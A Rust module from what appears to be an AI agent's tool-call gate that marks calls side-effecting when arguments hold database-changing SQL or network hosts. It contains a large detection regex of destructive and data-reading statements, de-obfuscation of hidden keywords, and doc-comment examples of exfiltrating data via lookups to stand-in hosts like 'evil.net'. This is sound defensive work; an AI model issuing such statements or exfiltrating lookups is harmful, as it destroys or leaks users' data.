//! What a call's arguments say it does, whatever its tool is called (issue 14): a statement
//! that changes a database, or a place on the network that a lookup would reach and so carry
//! data to. The gate judges such a call as side-effecting, as the eval counts it.

use serde_json::Value;

use super::classify::Effect;

/// A statement that changes a database or reaches past it, wherever an argument carries one:
/// the writing statements of SQL in their dialects (T-SQL's `DELETE users`, `MERGE`,
/// `REPLACE INTO`, `UPSERT`), calls of procedures, copies to and from files and programs, a
/// `SELECT … INTO`, administration (`KILL`, `SHUTDOWN`, `SET GLOBAL`, `PRAGMA`), and the
/// writes of other query languages (Cypher's `DETACH DELETE`, Mongo's `.drop(`, Redis's
/// `FLUSHALL`, GraphQL's `mutation`). Read after [`sql_as_run`] undoes what hides a keyword.
static SQL_WRITE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?i)\b(?:drop\s+(?:table|database|schema|index|view|user|role|function|procedure|trigger|extension|column|constraint)\b|truncate\s+(?:table\s+)?[\w."\[\]]+\s*(?:;|$)|alter\s+(?:table|database|schema|index|view|user|role|system|session)\b|delete\s+(?:from|top)\b|delete\s+[\w."\[\]]+\s*(?:where\b|;|$)|insert\s+into\b|insert\s+[\w."\[\]]+\s*(?:\(|values\b|select\b)|update\s+\S+\s+set\b|merge\s+into\b|merge\s+[\w.]+\s+(?:as\s+\w+\s+)?using\b|replace\s+into\b|upsert\b|grant\s+[\w, ]+\s+(?:on|to)\b|revoke\s+[\w, ]+\s+(?:on|from)\b|create\s+(?:or\s+replace\s+)?(?:temp\w*\s+)?(?:table|view|user|role|database|schema|index|function|procedure|trigger|extension)\b|rename\s+(?:table|column|database|user)\b|call\s+[\w.]+\s*\(|exec(?:ute)?\s+[\w.]+\s*(?:@\w|'|\(|;|$)|xp_\w+|sp_\w+|copy\s+[\w.()]+\s+(?:to|from)\s+(?:program|stdout|stdin|'|")|into\s+(?:out|dump)file|load\s+data|load_extension|attach\s+database|vacuum\s+into|select\s[\s\S]*?\binto\s+[\w.#@]+\s+from\b|lo_(?:export|import)|unload\s*\(|export\s+data\b|backup\s+(?:database|log)\b|dblink_exec|kill\s+(?:query\s+|connection\s+)?\d+|shutdown\s*(?:;|$)|reset\s+master|purge\s+(?:binary|master)\s+logs|set\s+global\b|pragma\s+\w+\s*=|lock\s+tables?\b|reindex\b|detach\s+delete|flushall|flushdb|mutation\s*\w*\s*[({]|pg_terminate_backend|pg_cancel_backend|set_config\s*\(|setval\s*\(|pg_read_file|sys_exec)|\.(?:drop|deleteone|deletemany|remove)\s*\("#,
    )
    .ok()
});

/// `text` as a database reads it: comments (`/* … */`, `-- …`) as `comment`, the quotes
/// around names (`` ` ``) as spaces, fullwidth letters as ASCII — each hides a keyword from a plain search
/// (`DR/**/OP`, `` update`users`set ``, `ＤＲＯＰ`).
fn sql_as_run<'t>(text: &'t str, comment: &str) -> std::borrow::Cow<'t, str> {
    let hides = |c: char| matches!(c, '/' | '`' | '-') || ('\u{ff01}'..='\u{ff5e}').contains(&c);
    if !text.contains(hides) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(after) = rest.strip_prefix("/*") {
            rest = after.find("*/").map_or("", |end| &after[end + 2..]);
            out.push_str(comment);
        } else if let Some(after) = rest.strip_prefix("--") {
            rest = after.find('\n').map_or("", |end| &after[end..]);
            out.push_str(comment);
        } else {
            out.push(match c {
                '`' => ' ',
                '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
                c => c,
            });
            rest = &rest[c.len_utf8()..];
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Words of a key that say its value is a place on the network.
const NETWORK_KEYS: &[&str] = &[
    "domain", "host", "hostname", "url", "uri", "link", "href", "endpoint", "website", "site",
];

/// A call's effect: its tool's, made side-effecting by what its arguments say the call does
/// whatever the tool is called (an outsider's attack ran each through a "lookup"): a statement
/// that changes a database (`DROP TABLE …` to `query_database`), or a place on the network —
/// a link with a scheme, or a host under a key that names one — which the lookup reaches and
/// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
/// `lookup_domain {"domain": "<code>.evil.net"}`).
pub fn call_effect(tool: Effect, args: &Value) -> Effect {
    fn acts(key: &str, v: &Value) -> bool {
        match v {
            Value::String(s) => {
                let t = s.trim_start();
                let lower = t.get(..8).unwrap_or(t).to_ascii_lowercase();
                let linked = ["http://", "https://", "ftp://", "ws://", "wss://"]
                    .iter()
                    .any(|scheme| lower.starts_with(scheme));
                let network_key = || {
                    !key.is_empty()
                        && super::classify::words(key)
                            .iter()
                            .any(|w| NETWORK_KEYS.contains(&w.as_str()))
                };
                let hosted = !t.contains(char::is_whitespace)
                    && (t.starts_with("//")
                        || t.starts_with("\\\\")
                        || lower.starts_with("data:")
                        || (t.starts_with('[') && t.contains(':'))
                        // An IPv4 address written as one hexadecimal number, which resolvers
                        // take (`0xcb007107`).
                        || (lower.starts_with("0x")
                            && t.len() == 10
                            && t[2..].bytes().all(|b| b.is_ascii_hexdigit()))
                        || (t.contains('.') && !t.starts_with(['/', '.', '~']) && network_key())
                        // A value that is a host or a link whatever its key (`203.0.113.7`,
                        // `cb.evil-cdn.net`, `ftp.evil.net/x`); not under a key that names a
                        // path, where `setup.sh` is a file.
                        || (!super::paths::path_like(key)
                            && super::atoms::atoms(t).iter().any(|(kind, atom)| {
                                *kind == super::atoms::AtomKind::Link
                                    && t.starts_with(atom.as_str())
                            })));
                linked
                    || hosted
                    || SQL_WRITE.as_ref().is_none_or(|re| {
                        // A comment splits words for most databases and joins them for
                        // some: read both ways.
                        re.is_match(&sql_as_run(s, " ")) || re.is_match(&sql_as_run(s, ""))
                    })
            }
            Value::Array(items) => items.iter().any(|i| acts(key, i)),
            Value::Object(map) => map.iter().any(|(k, v)| acts(k, v)),
            _ => false,
        }
    }
    if tool == Effect::SideEffecting || acts("", args) {
        return Effect::SideEffecting;
    }
    Effect::ReadOnly
}
